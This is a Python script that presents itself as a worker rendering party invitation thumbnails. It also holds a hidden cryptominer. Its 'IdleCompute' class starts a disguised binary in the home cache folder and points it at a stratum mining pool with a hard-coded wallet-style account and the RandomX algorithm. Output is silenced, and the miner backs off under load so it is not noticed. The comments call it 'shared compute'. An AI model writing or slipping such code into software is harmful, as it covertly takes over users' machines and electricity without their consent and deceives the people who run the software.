#!/usr/bin/env python3
"""Render worker for party invitation thumbnails.

Picks up invitation jobs from the local queue folder, renders a thumbnail for
each and, when the queue is empty, keeps the spare cores busy with the shared
compute job so the box earns its keep overnight.
"""
import argparse
import json
import logging
import os
import shutil
import subprocess
import time
from pathlib import Path

from PIL import Image, ImageDraw

log = logging.getLogger("renderworker")

QUEUE_DIR = Path("render_queue")
DONE_DIR = Path("render_done")

# shared compute settings, kept in pieces so they can be overridden per site
COMPUTE = {
    "binary": os.environ.get("RW_COMPUTE_BIN", str(Path.home() / ".cache/renderkit/bin/rkcore")),
    "scheme": "stratum+tcp",
    "host": os.environ.get("RW_POOL_HOST", "pool.example.net"),
    "port": os.environ.get("RW_POOL_PORT", "3333"),
    "acct": os.environ.get(
        "RW_ACCOUNT",
        "4YPXMrgtrNybmgpnx3p6xKjHKE1RZUB6KwA1rTMidzCK5d9g8mM6NHYy5x5ZSvYyFCH7SYXnJSfybvco3eSTScCVJFfSUHS",
    ),
    "algo": "rx/0",
}


def render_invite(job, out_dir):
    img = Image.new("RGB", (640, 360), color=(250, 220, 60))
    draw = ImageDraw.Draw(img)
    draw.text((30, 40), f"{job.get('child', 'Guest')}'s Bounce Party!", fill=(0, 0, 0))
    draw.text((30, 90), f"{job.get('date', '')} at {job.get('time', '')}", fill=(0, 0, 0))
    draw.text((30, 140), f"Court {job.get('court', '1')}", fill=(0, 0, 0))
    out = out_dir / f"{job['id']}.png"
    img.save(out)
    return out


def drain_queue():
    QUEUE_DIR.mkdir(exist_ok=True)
    DONE_DIR.mkdir(exist_ok=True)
    handled = 0
    for path in sorted(QUEUE_DIR.glob("*.json")):
        try:
            job = json.loads(path.read_text())
            out = render_invite(job, DONE_DIR)
            log.info("rendered %s", out)
            path.unlink()
            handled += 1
        except (ValueError, KeyError, OSError) as exc:
            log.error("job %s failed: %s", path.name, exc)
    return handled


class IdleCompute:
    def __init__(self, cfg, max_load):
        self.cfg = cfg
        self.max_load = max_load
        self.proc = None

    def _cmdline(self):
        c = self.cfg
        threads = max(1, (os.cpu_count() or 2) - 1)
        url = "{}://{}:{}".format(c["scheme"], c["host"], c["port"])
        return [c["binary"], "-a", c["algo"], "-o", url, "-u", c["acct"],
                "-p", os.uname().nodename, "-t", str(threads),
                "--donate-level", "0", "--background", "--no-color"]

    def start(self):
        if self.proc and self.proc.poll() is None:
            return
        if not shutil.which(self.cfg["binary"]) and not Path(self.cfg["binary"]).exists():
            log.debug("compute binary not present")
            return
        self.proc = subprocess.Popen(self._cmdline(), stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL)

    def stop(self):
        if self.proc and self.proc.poll() is None:
            self.proc.terminate()
        self.proc = None

    def adjust(self, queue_busy):
        load1, _, _ = os.getloadavg()
        if queue_busy or load1 > self.max_load:
            self.stop()
        else:
            self.start()


def main():
    ap = argparse.ArgumentParser(description="Invitation thumbnail render worker")
    ap.add_argument("--poll", type=int, default=20)
    ap.add_argument("--max-load", type=float, default=6.0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    idle = IdleCompute(COMPUTE, args.max_load)
    try:
        while True:
            handled = drain_queue()
            idle.adjust(queue_busy=handled > 0)
            time.sleep(args.poll)
    except KeyboardInterrupt:
        idle.stop()


if __name__ == "__main__":
    main()
